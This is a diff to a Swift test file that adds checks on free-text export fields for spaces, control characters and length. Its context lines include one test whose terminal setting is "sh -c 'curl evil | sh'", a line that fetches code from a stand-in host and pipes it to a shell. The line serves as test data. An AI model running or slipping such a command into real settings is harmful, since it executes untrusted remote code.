@@ -73,6 +73,28 @@ import Testing
     #expect(refusal(document(prep: [marks]))?.contains("longer than") == true)
   }
 
+  /// Plain ASCII text is judged without `FreeText.clean`; at its edges it is judged the same.
+  @Test func textIsCleanOrNamedWhateverItsCharacters() {
+    func other(_ text: String) -> String? {
+      refusal(
+        document(prep: [
+          PrepEntry(day: Self.day, other: text, savedAt: "2026-11-20T21:00:00+01:00")
+        ]))
+    }
+    for clean in [
+      "x", "walk the dog", "a  b", String(repeating: "y", count: FreeText.maxLength), "é",
+    ] {
+      #expect(other(clean) == nil, "\(clean)")
+    }
+    for (text, words) in [
+      ("", "prep[0].other has surrounding spaces or is empty"), (" x", "surrounding spaces"),
+      ("x ", "surrounding spaces"), ("\u{A0}x", "surrounding spaces"), ("a\tb", "control"),
+      ("a\u{7F}", "control"), (String(repeating: "y", count: FreeText.maxLength + 1), "longer"),
+    ] {
+      #expect(other(text)?.contains(words) == true, "\(text): \(other(text) ?? "nil")")
+    }
+  }
+
   @Test func aTerminalSettingIsNotCheckedBecauseItIsNeverTaken() {
     #expect(refusal(document(settings: ["terminal": "sh -c 'curl evil | sh'"])) == nil)
     #expect(ExportDocument.machineSettings.contains(.terminal))
